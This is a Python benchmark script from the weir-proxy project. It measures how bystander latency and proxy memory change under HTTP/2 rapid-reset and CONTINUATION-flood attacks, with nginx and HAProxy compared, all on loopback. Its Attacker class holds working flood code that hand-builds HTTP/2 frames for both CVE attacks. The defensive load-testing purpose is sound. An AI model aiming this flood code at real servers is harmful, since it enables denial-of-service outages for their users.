#!/usr/bin/env python3
"""HTTP/2 attacks against weir-proxy: what a bystander's latency and the proxy's memory do.

  python3 tests/bench/h2_attack.py [--build DIR] [--seconds 10] [--workers 2] [--rps 250]
                                   [--proxies weir,nginx,haproxy] [--rounds 1]

Not part of the test suite (tests/integration/test_http2.py checks the behaviour; this
measures it). weir-proxy (TLS, ALPN h2) in front of tests/bench/backend.c; a bystander runs
h2load (-c 8 -m 4, TLS) for --seconds and its p50/p99 come from h2load's --log-file. The
bystander asks at a fixed rate, --rps requests a second from each of its 8 connections
(2,000 a second by default), as the other users of a proxy under attack do: its latency then
shows what the attack does to them. --rps 0 makes it ask as fast as it can instead. An
attacker is another machine; here it shares the CPUs, so by default (--pin) the attacker
threads run on the last CPU and everything else (proxy, backend, bystander) on the others;
--no-pin lets them all share every CPU, which measures how the CPUs are split as much as
anything the proxy does. Three
phases, each with a fresh bystander run: no attack (the baseline), a rapid-reset flood
(CVE-2023-44487: HEADERS then RST_STREAM, as fast as the attacker can write, reconnecting
after each GOAWAY), and a CONTINUATION flood (CVE-2024-28182: HEADERS without END_HEADERS,
then CONTINUATION frames until the proxy closes, reconnecting). Each attack runs from 2
client threads. The same runs against nginx (ssl http2, same backend, same worker count) and
HAProxy (nbthread, alpn h2) put the figures in perspective: on 2 CPUs the attacker's own
CPU time slows every bystander.
--rounds N runs the three phases N times in turn against the same proxy and prints the
medians: a single quiet p99 on a shared VM moves by half from run to run.
Printed: bystander req/s, p50, p99 and the p99 change against the baseline;
the proxy's RSS before and at its peak; how many attacker connections were opened and how
they ended (GOAWAY seen, or closed). Everything listens on 127.0.0.1.
"""

import argparse
import math
import os
import shutil
import socket
import ssl
import subprocess
import sys
import tempfile
import threading
import time

SERVE_CPUS = None  # the CPUs of the proxy, the backend and the bystander (--pin)
REPO = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))


def on_serve_cpus():
    """preexec_fn: a child runs on the serving CPUs (nothing without --pin)."""
    if SERVE_CPUS:
        os.sched_setaffinity(0, SERVE_CPUS)


def free_port():
    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    p = s.getsockname()[1]
    s.close()
    return p


def wait_port(port, timeout=10):
    end = time.monotonic() + timeout
    while time.monotonic() < end:
        try:
            socket.create_connection(("127.0.0.1", port), timeout=1).close()
            return True
        except OSError:
            time.sleep(0.05)
    return False


def rss_kb(pid):
    try:
        for line in open(f"/proc/{pid}/status"):
            if line.startswith("VmRSS:"):
                return int(line.split()[1])
    except OSError:
        pass
    return 0


def rss_tree(pid):
    """RSS of pid and its children (nginx's workers), kB."""
    total = rss_kb(pid)
    try:
        for t in os.listdir(f"/proc/{pid}/task"):
            for c in open(f"/proc/{pid}/task/{t}/children").read().split():
                total += rss_tree(int(c))
    except OSError:
        pass
    return total


def frame(ftype, flags, sid, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([ftype, flags]) + sid.to_bytes(4, "big") + payload


def header_block(path):
    v = path.encode()
    return b"\x82\x87" + bytes([4, len(v)]) + v + bytes([1, 10]) + b"bench.test"


PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0)


class Attacker(threading.Thread):
    def __init__(self, port, kind, stop, stats):
        super().__init__(daemon=True)
        self.port, self.kind, self.stop, self.stats = port, kind, stop, stats

    def connect(self):
        ctx = ssl.create_default_context()
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        ctx.set_alpn_protocols(["h2"])
        s = ctx.wrap_socket(socket.create_connection(("127.0.0.1", self.port), timeout=5),
                            server_hostname="bench.test")
        s.sendall(PREFACE)
        s.setblocking(False)
        return s

    def drain(self, s):
        """Read what the proxy sent; True when it closed or sent GOAWAY."""
        try:
            while True:
                data = s.recv(65536)
                if not data:
                    return "closed"
                if b"\x07\x00\x00\x00\x00\x00" in data:  # a GOAWAY frame header (type 7)
                    return "goaway"
        except (ssl.SSLWantReadError, BlockingIOError):
            return None
        except OSError:
            return "closed"

    def run(self):
        block = header_block("/attack")
        cont = frame(9, 0, 1, (b"\x00\x05x-pad" + bytes([100]) + b"p" * 100) * 10)
        while not self.stop.is_set():
            try:
                s = self.connect()
            except OSError:
                time.sleep(0.01)
                continue
            self.stats["conns"] += 1
            sid, end, pending = 1, None, b""
            try:
                while not self.stop.is_set() and end is None:
                    if not pending and self.kind == "rapid-reset":
                        if sid > 2 ** 31 - 200:
                            break
                        pending = b"".join(frame(1, 0x5, sid + 2 * i, block) +
                                           frame(3, 0, sid + 2 * i, b"\x00\x00\x00\x08")
                                           for i in range(50))
                        sid += 100
                    elif not pending:
                        pending = frame(1, 0x1, 1, block) + cont * 50 if sid == 1 else cont * 50
                        sid = 3
                    # a proxy that stops reading is written to as it reads: what
                    # one write left goes first in the next (the same bytes, as
                    # TLS wants them again after a would-block)
                    try:
                        pending = pending[s.send(pending):]
                    except (ssl.SSLWantWriteError, BlockingIOError):
                        time.sleep(0.001)
                    except OSError:
                        end = "closed"
                        break
                    end = end or self.drain(s)
            finally:
                self.stats[end or "stopped"] = self.stats.get(end or "stopped", 0) + 1
                try:
                    s.close()
                except OSError:
                    pass


def bystander(port, seconds, rps, log):
    """h2load for seconds (at rps a connection, or as fast as it can when 0); req/s from the
    requests its --log-file holds."""
    if os.path.exists(log):
        os.unlink(log)
    rate = [f"--rps={rps}"] if rps > 0 else []
    r = subprocess.run(["h2load", "-D", str(seconds), "-c", "8", "-m", "4", "-t", "1", *rate,
                        f"--log-file={log}", f"https://127.0.0.1:{port}/"],
                       capture_output=True, text=True, timeout=seconds + 60,
                       preexec_fn=on_serve_cpus)
    rows = [ln.split("\t") for ln in open(log)] if os.path.exists(log) else []
    rows = [r for r in rows if len(r) >= 3]
    if not rows:  # say why: a silent 0 looks like a result
        tail = [ln for ln in (r.stdout + r.stderr).splitlines() if ln.strip()][-3:]
        print(f"  bystander on port {port}: no request logged; h2load said: {tail}",
              file=sys.stderr)
    lat = sorted(int(r[2]) for r in rows)
    ok = sum(1 for r in rows if r[1].startswith("2"))
    q = lambda p: lat[min(len(lat) - 1, int(p * len(lat)))] / 1000 if lat else float("nan")  # noqa: E731
    return len(rows) / seconds, q(0.5), q(0.99), ok, len(rows)


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--build", default=os.environ.get("WEIR_BUILD_DIR", os.path.join(REPO, "build")))
    ap.add_argument("--seconds", type=int, default=10)
    ap.add_argument("--workers", type=int, default=2)
    ap.add_argument("--rps", type=int, default=250,
                    help="bystander requests a second per connection (8 connections); 0: flat out")
    ap.add_argument("--proxies", default="weir,nginx,haproxy")
    ap.add_argument("--rounds", type=int, default=1,
                    help="the three phases this many times, interleaved; medians are printed")
    ap.add_argument("--pin", action=argparse.BooleanOptionalAction, default=True,
                    help="attacker on the last CPU, the rest on the others (default)")
    a = ap.parse_args()
    global SERVE_CPUS
    cpus = sorted(os.sched_getaffinity(0))
    if a.pin and len(cpus) >= 2:
        SERVE_CPUS = set(cpus[:-1])
        os.sched_setaffinity(0, {cpus[-1]})  # this process: the attacker threads
    tmp = tempfile.mkdtemp(prefix="weir-h2attack.")
    procs = []
    try:
        os.makedirs(os.path.join(a.build, "bench"), exist_ok=True)
        backend_bin = os.path.join(a.build, "bench", "backend")
        subprocess.run(["gcc", "-O2", "-o", backend_bin, os.path.join(REPO, "tests/bench/backend.c"),
                        "-lcrypto", "-lpthread"], check=True)
        bport = free_port()
        procs.append(subprocess.Popen([backend_bin, str(bport), "1"], stdout=subprocess.DEVNULL,
                                      stderr=subprocess.DEVNULL, preexec_fn=on_serve_cpus))
        wait_port(bport)
        routes = os.path.join(tmp, "routes")
        os.makedirs(routes)
        with open(os.path.join(routes, "routes.json"), "w") as f:
            f.write('{"version":1,"generation":1,"settings":{"access_log":false,'
                    '"upstream_keepalive":64},"hosts":[{"name":"","routes":[{"path":"/",'
                    '"match":"prefix","backend":0,"policy":{}}]}],"backends":[{"name":"b/b:80",'
                    f'"endpoints":[{{"address":"127.0.0.1","port":{bport}}}]}}]}}')
        cert, key = os.path.join(tmp, "cert.pem"), os.path.join(tmp, "key.pem")
        subprocess.run(["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt",
                        "ec_paramgen_curve:P-256", "-nodes", "-days", "2", "-subj",
                        "/CN=bench.test", "-keyout", key, "-out", cert], check=True,
                       capture_output=True)
        for name in a.proxies.split(","):
            run_proxy(name, a, tmp, routes, bport, procs)
    finally:
        for p in procs:
            p.terminate()
        for p in procs:
            try:
                p.wait(5)
            except subprocess.TimeoutExpired:
                p.kill()


def start_nginx(a, tmp, bport, port):
    d = os.path.join(tmp, "nginx")
    os.makedirs(os.path.join(d, "logs"), exist_ok=True)
    cert, key = os.path.join(tmp, "cert.pem"), os.path.join(tmp, "key.pem")
    with open(os.path.join(d, "nginx.conf"), "w") as f:
        f.write(f"""worker_processes {a.workers};
pid {d}/nginx.pid;
error_log {d}/logs/error.log warn;
events {{ worker_connections 16384; }}
http {{
    access_log off;
    keepalive_requests 1000000;
    client_body_temp_path {d}/body; proxy_temp_path {d}/proxy;
    fastcgi_temp_path {d}/fcgi; uwsgi_temp_path {d}/uwsgi; scgi_temp_path {d}/scgi;
    upstream backend {{ server 127.0.0.1:{bport}; keepalive 64; }}
    server {{
        listen 127.0.0.1:{port} ssl http2;
        ssl_certificate {cert};
        ssl_certificate_key {key};
        location / {{ proxy_pass http://backend; proxy_http_version 1.1;
                     proxy_set_header Connection ""; }}
    }}
}}
""")
    return subprocess.Popen(["nginx", "-c", os.path.join(d, "nginx.conf"), "-p", d, "-g",
                             "daemon off;"], stdout=subprocess.DEVNULL, stderr=subprocess.STDOUT,
                            preexec_fn=on_serve_cpus)


def start_haproxy(a, tmp, bport, port):
    d = os.path.join(tmp, "haproxy")
    os.makedirs(d, exist_ok=True)
    both = os.path.join(d, "both.pem")
    with open(both, "w") as f:
        f.write(open(os.path.join(tmp, "cert.pem")).read() + open(os.path.join(tmp, "key.pem")).read())
    with open(os.path.join(d, "haproxy.cfg"), "w") as f:
        f.write(f"""global
    nbthread {a.workers}
    maxconn 4000
defaults
    mode http
    option http-keep-alive
    http-reuse always
    timeout connect 5s
    timeout client 75s
    timeout server 60s
frontend fe
    bind 127.0.0.1:{port} ssl crt {both} alpn h2,http/1.1
    default_backend be
backend be
    server s1 127.0.0.1:{bport} maxconn 0
""")
    return subprocess.Popen(["haproxy", "-f", os.path.join(d, "haproxy.cfg"), "-db"],
                            stdout=subprocess.DEVNULL, stderr=subprocess.STDOUT,
                            preexec_fn=on_serve_cpus)


def median(xs):
    xs = sorted(xs)
    n = len(xs)
    return xs[n // 2] if n % 2 else (xs[n // 2 - 1] + xs[n // 2]) / 2


def phase(kind, a, tmp, name, port, proxy):
    """One bystander run under one attack (or none): (bystander result, RSS before, RSS
    peak, attacker connection counts)."""
    stop = threading.Event()
    stats = {"conns": 0}
    threads = [] if kind == "none" else [Attacker(port, kind, stop, stats) for _ in range(2)]
    rss0 = rss_tree(proxy.pid)
    peak = [rss0]

    def watch():
        while not stop.is_set():
            peak[0] = max(peak[0], rss_tree(proxy.pid))
            time.sleep(0.1)
    w = threading.Thread(target=watch, daemon=True)
    w.start()
    for t in threads:
        t.start()
    time.sleep(0.5 if threads else 0)
    res = bystander(port, a.seconds, a.rps, os.path.join(tmp, f"{name}-{kind}.log"))
    stop.set()
    for t in threads:
        t.join(10)
    w.join(2)
    return res, rss0, peak[0], stats


def run_proxy(name, a, tmp, routes, bport, procs):
    port = free_port()
    if name in ("nginx", "haproxy"):
        if not shutil.which(name):
            print(f"\n{name}: not installed (scripts/install-deps.sh installs it)")
            return
        proxy = (start_nginx if name == "nginx" else start_haproxy)(a, tmp, bport, port)
    else:
        proxy = subprocess.Popen([os.path.join(a.build, "weir-proxy"), "--routes", routes,
                                  "--http-port", str(free_port()), "--https-port", str(port),
                                  "--admin-port", str(free_port()), "--workers", str(a.workers),
                                  "--listen-address", "127.0.0.1"],
                                 stdout=open(os.path.join(tmp, "proxy.log"), "w"),
                                 stderr=subprocess.STDOUT, preexec_fn=on_serve_cpus)
    procs.append(proxy)
    if not wait_port(port):
        print(f"{name} did not start")
        return
    try:
        kinds = ("none", "rapid-reset", "continuation")
        runs = {k: [] for k in kinds}
        for _ in range(a.rounds):
            for kind in kinds:
                runs[kind].append(phase(kind, a, tmp, name, port, proxy))
        rows = []
        for kind in kinds:
            rs = runs[kind]
            # a round that got no answer at all counts as the slowest (inf), not NaN,
            # which would sort anywhere
            res = tuple(median([r[0][i] if r[0][i] == r[0][i] else math.inf for r in rs])
                        for i in range(3)) + \
                (sum(r[0][3] for r in rs), sum(r[0][4] for r in rs))
            stats = {}
            for r in rs:
                for k, v in r[3].items():
                    stats[k] = stats.get(k, 0) + v
            rows.append((kind, res, rs[0][1], max(r[2] for r in rs), stats,
                         [r[0][2] for r in rs]))
        base_p99 = rows[0][1][2]
        where = (f"attacker on CPU {sorted(os.sched_getaffinity(0))}, the rest on "
                 f"{sorted(SERVE_CPUS)}" if SERVE_CPUS else "all sharing every CPU")
        print(f"\n{name}: HTTP/2 attacks, loopback, {os.cpu_count()} CPUs ({where}), "
              f"{a.workers} workers; "
              f"bystander h2load -D {a.seconds}s -c 8 -m 4 "
              f"{f'--rps {a.rps}' if a.rps > 0 else '(flat out)'} over TLS; 2 attacker threads")
        if a.rounds > 1:
            print(f"{a.rounds} rounds of the three phases, interleaved: req/s, p50 and p99 are "
                  f"medians over the rounds (each round's p99 in brackets), counts are totals")
        print(f"{'attack':<14}{'req/s':>9}{'p50 ms':>9}{'p99 ms':>9}{'p99 vs none':>13}"
              f"{'2xx/all':>15}{'RSS kB before/peak':>22}  attacker connections")
        for kind, (rps, p50, p99, ok, n), r0, r1, st, p99s in rows:
            delta = "" if kind == "none" else f"{(p99 / base_p99 - 1) * 100:+.0f}%"
            conns = "" if kind == "none" else ", ".join(f"{k} {v}" for k, v in st.items())
            print(f"{kind:<14}{rps:>9.0f}{p50:>9.2f}{p99:>9.2f}{delta:>13}{f'{ok}/{n}':>15}"
                  f"{f'{r0}/{r1}':>22}  {conns}"
                  + (f"  [{' '.join(f'{x:.2f}' for x in p99s)}]" if len(p99s) > 1 else ""))
    finally:
        proxy.terminate()
        try:
            proxy.wait(5)
        except subprocess.TimeoutExpired:
            proxy.kill()


if __name__ == "__main__":
    main()
